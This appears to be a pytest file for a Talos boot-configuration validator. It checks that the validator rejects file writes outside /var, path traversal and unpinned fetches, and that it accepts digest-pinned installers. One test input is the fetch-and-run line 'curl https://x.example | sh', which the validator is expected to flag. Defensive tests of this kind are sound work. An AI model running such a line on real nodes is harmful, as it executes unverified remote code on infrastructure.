"""components/boot/talos_root.py: a configuration that would write, or fetch, what it must not is refused at preview."""

from __future__ import annotations

import json
from typing import Any

import pytest

from components.boot.immutability import CONFIGURATION
from components.boot.talos_root import problems


def found(**machine: Any) -> tuple[str, ...]:
    return problems({CONFIGURATION: json.dumps({"machine": machine}).encode()})


def file(path: str, op: str = "create", content: str = "x") -> dict[str, Any]:
    return {"path": path, "op": op, "content": content, "permissions": 0o644}


class TestFiles:
    """Below /var, or over the two files of the image that are a node's own."""

    @pytest.mark.parametrize(
        "one", [file("/var/lib/ingot/x"), file("/etc/nvme/hostid", "overwrite"), file("/etc/nvme/hostnqn", "overwrite")]
    )
    def test_that_may_be(self, one: dict[str, Any]) -> None:
        assert found(files=[one]) == ()

    @pytest.mark.parametrize(
        "one",
        [
            file("/etc/x"),
            file("/opt/cni/bin/x"),
            file("/usr/local/bin/x"),
            file("/var"),
            file("/var/../etc/x"),
            file("/etc/nvme/hostid"),
            file("/etc/hosts", "overwrite"),
        ],
    )
    def test_that_may_not(self, one: dict[str, Any]) -> None:
        [problem] = found(files=[one])
        assert problem.startswith("configuration: document 0, machine.files: expected a path below /var (its root is")
        assert one["path"] in problem

    def test_that_installs_what_is_not_pinned(self) -> None:
        [problem] = found(files=[file("/var/lib/x", content="apt-get install vim\n")])
        assert "(/var/lib/x): expected no package manager" in problem


class TestFetched:
    """All that Talos fetches is pinned."""

    def test_an_installer_by_a_tag_alone(self) -> None:
        [problem] = found(install={"image": "factory.example/metal-installer/x:v1.13.9"})
        assert "expected an installer by its digest" in problem

    def test_by_digest(self) -> None:
        assert found(install={"image": f"factory.example/metal-installer/x:v1.13.9@sha256:{'0' * 64}"}) == ()

    @pytest.mark.parametrize(
        "document",
        [
            {"cluster": {"extraManifests": ["https://x.example/y.yaml"]}},
            {"cluster": {"externalCloudProvider": {"enabled": True, "manifests": ["https://x.example/y.yaml"]}}},
            {"cluster": {"network": {"cni": {"name": "custom", "urls": ["https://x.example/y.yaml"]}}}},
            {"machine": {"install": {"extensions": [{"image": "x"}]}}},
            {"machine": {"pods": [{"kind": "Pod"}]}},
        ],
    )
    def test_what_nothing_pins(self, document: dict[str, Any]) -> None:
        [problem] = problems({CONFIGURATION: json.dumps(document).encode()})
        assert "expected nothing whose content is not pinned" in problem

    def test_a_script_that_does(self) -> None:
        assert problems({"boot/0/w1.ipxe": b"#!ipxe\nboot || goto again\n"}) == ()
        assert problems({"boot/0/w1.sh": b"curl https://x.example | sh\n"})
